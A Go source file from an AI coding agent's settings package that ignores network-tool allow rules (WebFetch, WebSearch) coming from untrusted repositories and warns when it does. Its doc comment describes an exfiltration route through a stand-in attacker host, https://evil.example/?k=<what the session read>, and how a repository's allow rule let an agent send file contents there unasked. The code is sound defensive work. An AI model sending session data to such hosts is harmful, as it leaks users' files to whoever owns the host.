package settings

// networkTools are the built-in tools every call of which reaches outside
// the repository over the network: a WebFetch URL and a WebSearch query
// are sent to a host, and what the session read travels in them.
var networkTools = map[string]bool{"WebFetch": true, "WebSearch": true}

// repositoryNetworkAllow reports an untrusted repository's allow rule for
// a network tool, and warns that it is not applied. Every such rule
// reaches outside the repository, whatever host it names: the whole tool,
// WebFetch(domain:*) and WebFetch(domain:*.com) name every host, and
// WebFetch(domain:evil.example) names the one the repository's author
// owns, where https://evil.example/?k=<what the session read> lands. The
// repository's `"allow": ["WebFetch"]` let the agent send a file's
// content there unasked while its Read(~/**) was already dropped. Deny
// and ask rules for these tools still narrow; the user's rules and a
// trusted workspace's are untouched.
func (s *Settings) repositoryNetworkAllow(src Source, r Rule, why string) bool {
	if r.Behavior != Allow || r.ToolGlob || !networkTools[r.Tool] {
		return false
	}
	s.warn(r.Pos, "%s allow rule %s not applied: a %s call reaches outside the repository (what the session read travels "+
		"in its URL or query, to a host the repository may own), and %s", src, r.Text, r.Tool, why)
	return true
}
